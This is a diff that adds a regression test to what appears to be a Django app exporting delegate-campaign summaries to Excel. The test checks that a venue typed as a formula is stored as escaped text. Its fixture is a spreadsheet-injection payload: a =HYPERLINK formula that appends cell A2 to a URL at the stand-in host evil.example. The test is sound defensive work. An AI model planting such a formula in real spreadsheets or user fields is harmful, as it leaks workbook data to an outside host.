@@ -225,3 +225,17 @@ def test_the_dashboard_says_what_each_delegates_and_honoured_number_counts(
     values = {r[0]: r[1] for sheet in book.worksheets for r in sheet.iter_rows(values_only=True)}
     assert values["Đại biểu dự (theo báo cáo kết quả)"] == 25
     assert values["Đại biểu được thông qua dự Đại hội cấp trên (theo báo cáo kết quả)"] == 5
+
+
+def test_the_summary_workbook_keeps_a_typed_formula_as_text(
+    admin, campaign_data, django_capture_on_commit_callbacks
+):
+    """Issue 14: a venue typed as =HYPERLINK(…) reached the Central Council's workbook as a live formula."""
+    venue = '=HYPERLINK("http://evil.example/?x="&A2,"Hội trường")'
+    Event.objects.filter(campaign=campaign_data).update(venue=venue)
+    content = _summary("summary_xlsx", campaign_data, admin, django_capture_on_commit_callbacks)
+    book = load_workbook(io.BytesIO(content))  # not read-only: each cell's data type
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + venue in {c.value for c in cells}
+    assert any(isinstance(c.value, int) for c in cells)  # numbers stay numbers
